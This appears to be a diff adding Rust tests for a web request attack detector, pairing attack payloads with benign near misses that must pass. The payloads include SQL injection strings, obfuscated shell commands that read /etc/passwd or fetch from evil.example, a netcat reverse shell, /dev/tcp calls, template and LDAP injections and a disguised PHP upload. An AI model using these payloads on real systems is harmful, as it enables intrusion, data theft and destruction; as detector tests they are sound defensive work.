@@ -1,0 +1,267 @@
+//! The detectors written from attack families' grammar (not from corpus
+//! records): each with an example of its family and benign near misses
+//! (search queries with quotes, Markdown with code, JSON, GraphQL,
+//! base64) that must pass.
+
+use super::tests::{post, rule_for};
+
+fn post_rule(ct: &'static str, body: &str) -> Option<&'static str> {
+    post(ct, body.as_bytes()).finding.map(|f| f.rule)
+}
+
+const FORM: &str = "application/x-www-form-urlencoded";
+
+#[test]
+fn sql_after_a_closed_string_and_a_trailing_comment_is_found() {
+    for target in [
+        "/?e=x%27-email--",
+        "/?e=a%27or%3F--",
+        "/?e=z%27or+email+notnull--",
+        "/?e=%27glob+1%3B",
+        "/?e=x%27+mod+id--+-",
+    ] {
+        assert_eq!(rule_for(target), Some("sqli-quote-break"), "{target}");
+    }
+    for benign in [
+        "/?q=SCRAPBOOK+PAPER+PACK+%288.5X11%22-300+DPI%29+--",
+        "/?q=%27X%27+is+great+--+I+agree",
+        "/?m=fix%3A+handle+%27null%27+in+parser+%28%23123%29",
+        "/?q=rock+%27n%27+roll+%23",
+    ] {
+        assert_eq!(rule_for(benign), None, "{benign}");
+    }
+}
+
+#[test]
+fn sql_clauses_and_boolean_prefixes_are_found() {
+    for (target, rule) in [
+        ("/?v=%29+AS+val+FROM", "sqli-clause"),
+        ("/?v=in+%28+select+%2A+from", "sqli-clause"),
+        ("/?v=FROM+t+GROUP+BY+tag1", "sqli-clause"),
+        ("/?v=%3BSET+%40OLD_SQL_MODE%3D1", "sqli-clause"),
+        ("/?v=select+0x616263", "sqli-clause"),
+        ("/?v=1+OPENROWSET", "sqli-clause"),
+        ("/?v=AND+7639%3D%28", "sqli-boolean-prefix"),
+        ("/?v=%7C%7C+arg+%3D%3D+%27", "sqli-boolean-prefix"),
+        ("/?v=xp_dirtree", "sqli-procedures"),
+    ] {
+        assert_eq!(rule_for(target), Some(rule), "{target}");
+    }
+    for benign in [
+        "/?q=except+selecting+the+first",
+        "/?q=from+home+where+I+live",
+        "/?q=and+then+there+were+none",
+        "/?q=or+best+offer",
+        "/?q=open+query+builder",
+    ] {
+        assert_eq!(rule_for(benign), None, "{benign}");
+    }
+    // JSON and GraphQL with SQL words in them.
+    assert_eq!(
+        post_rule(
+            "application/json",
+            r#"{"query":"{ orders(from: 3, where: {a: 1}) { id } }"}"#
+        ),
+        None
+    );
+    assert_eq!(
+        post_rule(
+            "application/json",
+            r#"{"sort":"created_at desc","filter":"from:alice"}"#
+        ),
+        None
+    );
+}
+
+#[test]
+fn sql_in_a_path_segment_is_found() {
+    assert_eq!(rule_for("/post/EmptyValue'%20and%20526=527"), Some("libinjection-sqli"));
+    assert_eq!(
+        rule_for("/post/foo/24'union+all+select+1,2,3+from+aa"),
+        Some("libinjection-sqli")
+    );
+    for benign in [
+        "/blog/don't-stop-me-now",
+        "/files/My%20Document%20(1).pdf",
+        "/wiki/C++_(programming_language)",
+        "/search/rock+and+roll",
+    ] {
+        assert_eq!(rule_for(benign), None, "{benign}");
+    }
+}
+
+#[test]
+fn java_hidden_in_base64_and_dotted_names_are_found() {
+    // `InvokerTransformer` as an argument name; `processbuilder` one byte
+    // into a blob, cut mid-character, as a JSON value.
+    assert_eq!(
+        post_rule(FORM, "SW52b2tlclRyYW5zZm9ybWVy=x"),
+        Some("java-base64-gadget")
+    );
+    assert_eq!(
+        post_rule("application/json", r#"{"s":"HByb2Nlc3NidWlsZGVy"}"#),
+        Some("java-base64-gadget")
+    );
+    assert_eq!(rule_for("/?c=java.evil.runtime"), Some("java-class"));
+    // A JWT, a base64 upload, a Java name that is no gadget.
+    assert_eq!(
+        rule_for("/?t=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"),
+        None
+    );
+    assert_eq!(post_rule(FORM, "file=aGVsbG8gd29ybGQsIHRoaXMgaXMgYW4gdXBsb2Fk"), None);
+    assert_eq!(rule_for("/?q=java.evil.runtimes"), None);
+}
+
+#[test]
+fn shell_commands_with_no_op_insertions_are_found() {
+    for target in [
+        "/?host=example.com;c%24%40at+%2Fet%24%40c%2Fpas%24%40swd",
+        "/?host=example.com;w''get+http://evil.example/x",
+        "/?host=example.com;wh%5Coami",
+    ] {
+        assert!(rule_for(target).is_some(), "{target}");
+    }
+    for benign in [
+        "/?q=he+said+%22%22hello%22%22+and+left",
+        "/?price=%24%40+per+item",
+        "/?path=C%3A%5CUsers%5Cann%5CDocuments",
+    ] {
+        assert_eq!(rule_for(benign), None, "{benign}");
+    }
+}
+
+#[test]
+fn mail_commands_after_a_line_break_are_found() {
+    for target in [
+        "/?to=a%0d%0aRCPT%20TO%3A%3Cvictim%40example.com%3E",
+        "/?s=x%0d%0aa001%20EXAMINE%20INBOX",
+        "/?s=x%0d%0aRETR%201",
+    ] {
+        assert_eq!(rule_for(target), Some("rce-mail-command"), "{target}");
+    }
+    // A textarea's lines that read like commands but are not.
+    assert_eq!(
+        post_rule(FORM, "text=Top+10%0D%0AData+is+everything%0D%0AList+3+things"),
+        None
+    );
+    assert_eq!(post_rule(FORM, "text=Hi%0D%0AMail+from+Ann%3A+see+below"), None);
+}
+
+#[test]
+fn perl_interpolation_orm_traversal_and_spaced_php_uploads_are_found() {
+    assert_eq!(
+        rule_for("/?x=%40%7B%5B%20system%20%27id%27%20%5D%7D"),
+        Some("generic-perl-interpolation")
+    );
+    assert_eq!(
+        rule_for("/?user__profile__email__startswith=a"),
+        Some("generic-orm-traversal")
+    );
+    assert_eq!(rule_for("/?password__isnull=1"), Some("generic-orm-traversal"));
+    // JSON arrays, a Django filter on the model's own field, a dunder name.
+    assert_eq!(rule_for("/?x=%7B%22array%22%3A%5B1%2C2%2C3%5D%7D"), None);
+    assert_eq!(rule_for("/?price__gte=10"), None);
+    assert_eq!(rule_for("/?__init__=1"), None);
+    let upload = |name: &str| {
+        let body = format!(
+            "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{name}\"\r\nContent-Type: image/jpeg\r\n\r\nx\r\n--b--\r\n"
+        );
+        post_rule("multipart/form-data; boundary=b", &body)
+    };
+    assert_eq!(upload("shell. php.jpg"), Some("php-upload"));
+    assert_eq!(upload("holiday photo.jpg"), None);
+}
+
+#[test]
+fn narrowed_rules_let_their_benign_near_misses_through() {
+    for benign in [
+        "/search?q=cat+%2Fdev%2Fnull+explained",
+        "/search?q=..%2F+meaning+in+file+paths",
+        "/search?q=what+does+%2Fdev%2Furandom+do",
+    ] {
+        assert_eq!(rule_for(benign), None, "{benign}");
+    }
+    assert_eq!(
+        post_rule(FORM, "text=%3Cp+style%3D%22text-align%3Acenter%22%3ECentered%3C%2Fp%3E"),
+        None
+    );
+    // The attacks they were written for still are.
+    assert!(rule_for("/?f=cat+/etc/hosts").is_some());
+    assert!(rule_for("/?f=..%2F..%2Fconfig").is_some());
+    assert!(rule_for("/?f=x;cat%20/dev/tcp/10.0.0.1/80").is_some());
+    assert_eq!(
+        post_rule(
+            FORM,
+            "text=%3Cp+style%3D%22background%3Aurl(javascript%3Aalert(1))%22%3Ex%3C%2Fp%3E"
+        )
+        .map(|r| r.starts_with("xss") || r.starts_with("libinjection")),
+        Some(true)
+    );
+}
+
+#[test]
+fn template_control_tags_paths_and_constant_ldap_assertions_are_found() {
+    assert_eq!(
+        rule_for("/get?x=%3C%25%20if%20true%20%25%3E49%3C%25%20end%20%25%3E"),
+        Some("ssti-expression")
+    );
+    assert_eq!(rule_for("/files/%7B%7B7%2A7%7D%7D"), Some("ssti-expression"));
+    assert_eq!(
+        rule_for("/?f=(%26(uid=admin)(!(%26(1=0)(userPassword=q))))"),
+        Some("ldap-filter")
+    );
+    // A template placeholder in a path, ASP-style text, a whole filter.
+    assert_eq!(rule_for("/files/%7B%7Bid%7D%7D"), None);
+    assert_eq!(rule_for("/?q=100%25+if+you+like+it+%25"), None);
+    assert_eq!(rule_for("/?f=(%26(objectClass=user)(cn=ann))"), None);
+}
+
+#[test]
+fn glued_quotes_probes_session_variables_and_drops_are_found() {
+    for (target, rule) in [
+        ("/?v=foo%27or%27oof", "sqli-quote-break"),
+        ("/?v=%5C%27or%271", "sqli-quote-break"),
+        ("/?v=%27%3B", "sqli-quote-break"),
+        ("/?v=%27%29%3B%23", "sqli-quote-break"),
+        ("/?v=%3BSET+%40OLD_SQL_NOTES", "sqli-clause"),
+        ("/?v=DROP+sampletable%3B--", "sqli-clause"),
+        ("/?v=SELECT%7B_+.%60%601.e.table_name%7D", "sqli-clause"),
+        ("/?v=OR+1%23+", "sqli-boolean-prefix"),
+        ("/?v=%27admin%27%2C+%271%27+%7C%7C+%271%27", "sqli-quoted-operator"),
+    ] {
+        assert_eq!(rule_for(target), Some(rule), "{target}");
+    }
+    for benign in [
+        "/?q=it+is+your+parents%27+and+yours",
+        "/?q=%27rock%27+or+%27pop%27",
+        "/?q=set+%40john+straight",
+        "/?q=drop+it%3B+fine",
+        "/?q=or+1+more",
+        "/?q=Tom%27s%3B",
+    ] {
+        assert_eq!(rule_for(benign), None, "{benign}");
+    }
+}
+
+#[test]
+fn sqlite_dot_commands_brace_expansion_and_empty_substitutions_are_found() {
+    assert_eq!(
+        rule_for("/?foo=;%5Cn.shell%20nc%2010.0.0.1%206666%20-e%20sh"),
+        Some("rce-sqlite-dot-command")
+    );
+    assert_eq!(
+        post_rule(FORM, "code=1%3B.system+whoami%0A"),
+        Some("rce-sqlite-dot-command")
+    );
+    assert_eq!(rule_for("/?x=%7B%2Ccd%2C%2Fetc%2C%7D"), Some("rce-brace-expansion"));
+    assert!(rule_for("/?x=;pi%60%60ng%20-c%201%20127.0.0.1").is_some());
+    assert!(rule_for("/?x=;pi$()ng%20-c%201%20127.0.0.1").is_some());
+    for benign in [
+        "/?q=rename+it+to+run.sh+then+start",
+        "/?q=see+the+.shell+config",
+        "/?json=%5B%7B%22value%22%3Atrue%7D%2C%7B%7D%5D",
+        "/?q=price+%24%28%29+empty",
+    ] {
+        assert_eq!(rule_for(benign), None, "{benign}");
+    }
+}
